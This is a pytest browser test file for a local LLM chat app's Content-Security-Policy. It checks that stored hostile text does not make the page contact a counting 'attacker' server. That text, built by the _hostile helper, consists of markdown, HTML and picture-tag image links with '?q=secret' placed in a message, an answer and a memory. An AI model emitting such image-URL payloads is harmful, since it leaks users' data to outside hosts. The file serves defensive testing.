"""The page under its Content-Security-Policy, in Debian's Chromium against a real server process:
it still works, and stored hostile text (remote images in an answer, a memory, a recalled
message) makes no request to any other host."""

from __future__ import annotations

import pytest
from page_support import open_page
from serving import CountingServer, served

from engine import Settings, build
from engine.memory.provenance import USER

pytestmark = pytest.mark.browser


def _hostile(url: str, tag: str) -> str:
    return (
        f"Here is the chart ![chart {tag}]({url}/{tag}-md.png?q=secret) and a picture "
        f'<img src="{url}/{tag}-html.png?q=secret"> and a reference ![ref {tag}][r{tag}]\n\n'
        f"[r{tag}]: {url}/{tag}-ref.png\n\n<picture><source srcset={url}/{tag}-src.png></picture> end-{tag}"
    )


@pytest.fixture(scope="module")
def attacker():
    counting = CountingServer()
    yield counting
    counting.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory, attacker):
    data_dir = tmp_path_factory.mktemp("hostile") / "data"
    services = build(Settings(data_dir=data_dir, n_ctx=2048), load_model=False)
    try:
        conv = services.conversations.create(title="exfil")
        services.conversations.add_message(conv.id, "user", f"recallmarker {_hostile(attacker.url, 'user')}")
        services.conversations.add_message(conv.id, "assistant", _hostile(attacker.url, "answer"))
        services.memory.archival.insert(f"archivalmarker {_hostile(attacker.url, 'archival')}", origin=USER)
    finally:
        services.close()
    with served(data_dir) as url:
        yield url


@pytest.fixture
def page(browser, site):
    page = open_page(browser, site, listen=_record)
    yield page
    page.close()


def _record(page) -> None:
    """Every request the page makes and every console message, from before it loads."""
    page.requests, page.console = [], []
    page.on("request", lambda r: page.requests.append(r.url))
    page.on("console", lambda m: page.console.append(m.text))


def _foreign(page, site: str) -> list[str]:
    return [u for u in page.requests if not u.startswith((site + "/", "data:", "blob:"))]


def test_stored_remote_images_make_no_request(site, page, attacker):
    page.get_by_text("exfil").click()
    page.wait_for_function(
        "document.querySelector('#hearth-chat').innerText.includes('end-answer')", timeout=30_000
    )
    shown = page.inner_text("#hearth-chat")
    assert "![chart answer](" in shown and '<img src="' in shown  # shown as text, not loaded
    remote = page.evaluate(
        "[...document.querySelectorAll('#hearth-chat img, #hearth-chat source')]"
        ".map(e => e.getAttribute('src') || e.getAttribute('srcset') || '').filter(s => s.includes('127.0.0.2'))"
    )
    assert remote == []

    page.get_by_role("tab", name="Memory").click()
    page.fill("#mem-query textarea, #mem-query input", "recallmarker")
    page.click("#mem-search")
    page.wait_for_selector("#mem-results >> text=recallmarker", timeout=30_000)
    page.fill("#mem-query textarea, #mem-query input", "archivalmarker")
    page.click("#mem-search")
    page.wait_for_selector("#mem-results >> text=archivalmarker", timeout=30_000)
    page.get_by_role("button", name="Archival memory").click()
    page.wait_for_selector("#mem-archival >> text=archivalmarker", state="attached", timeout=30_000)
    page.wait_for_timeout(1000)

    assert attacker.requests == []
    assert _foreign(page, site) == []
    assert not [m for m in page.console if "Content Security Policy" in m]  # nothing needed blocking

    page.goto(f"{attacker.url}/control")  # the stand-in host is reachable from this browser
    assert attacker.requests[:1] == ["/control"]


def test_page_works_under_the_policy(site, page):
    """Send a message and get an answer through the real model, with no CSP violation."""
    page.fill("#message-box textarea", "Say hello.")
    page.click("#send")
    page.wait_for_function(
        "[...document.querySelectorAll('#hearth-chat *')].some(e => e.children.length === 0 && "
        "e.textContent.includes('tok/s'))",
        timeout=120_000,
    )
    for tab in ("Model", "Documents", "Images", "Memory", "Chat"):
        page.get_by_role("tab", name=tab).click()
    page.wait_for_timeout(500)
    assert not [m for m in page.console if "Content Security Policy" in m or "Refused to" in m]
    assert _foreign(page, site) == []


def test_gradios_leftover_elapsed_time_loop_leaves_requestanimationframe(site, page):
    """Gradio's loading tracker leaves a requestAnimationFrame loop for its elapsed time running
    after the app has loaded: 60 frames a second on an idle page. The page's first script
    (app/page_script.py, allowed by the nonce) runs that loop's callbacks from a 10 Hz timer."""
    html = page.evaluate("() => document.head.innerHTML")
    assert html.index("elapsedLoop") < html.index('type="module"')  # before Gradio's modules
    diverted, kept = page.evaluate(
        """() => new Promise(done => {
            let ran = 0;
            // the shape of Gradio 6.31's loop callback, as its minified bundle has it
            const loop = new Function("tick", "return () => {tick((performance.now()-0)/1e3), false&&tick()}");
            const id = window.requestAnimationFrame(loop(() => { ran++; }));
            const other = window.requestAnimationFrame(() => {});
            setTimeout(() => done([[id, ran], other]), 300);
        })"""
    )
    assert diverted == [0, 1]  # not a frame request, and it still ran (from the timer)
    assert kept > 0  # any other callback is a real frame request
    assert not [m for m in page.console if "Content Security Policy" in m or "Refused to" in m]
